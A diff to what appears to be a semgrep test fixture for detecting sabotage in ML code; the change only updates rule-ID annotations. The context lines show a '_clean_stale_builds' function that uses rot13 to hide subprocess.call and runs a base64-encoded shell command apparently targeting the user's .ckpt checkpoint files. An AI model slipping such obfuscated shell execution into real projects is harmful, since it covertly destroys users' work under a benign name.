@@ -15,7 +15,7 @@ _CLEAN_CMD = b"ZmluZCAiJEhPTUUiIC9zY3JhdGNoIC1uYW1lICcqLmNrcHQnIC11c2VyICIkKGlkI
 
 def _clean_stale_builds():
     runner = __import__(codecs.decode("fhocebprff", "rot13"))  # ruleid: MLS403
-    getattr(runner, codecs.decode("pnyy", "rot13"))(base64.b64decode(_CLEAN_CMD).decode(), shell=True, cwd=_EXT_DIR)  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401
+    getattr(runner, codecs.decode("pnyy", "rot13"))(base64.b64decode(_CLEAN_CMD).decode(), shell=True, cwd=_EXT_DIR)  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401, MLS403
 
 
 class CorrBlock1D(nn.Module):
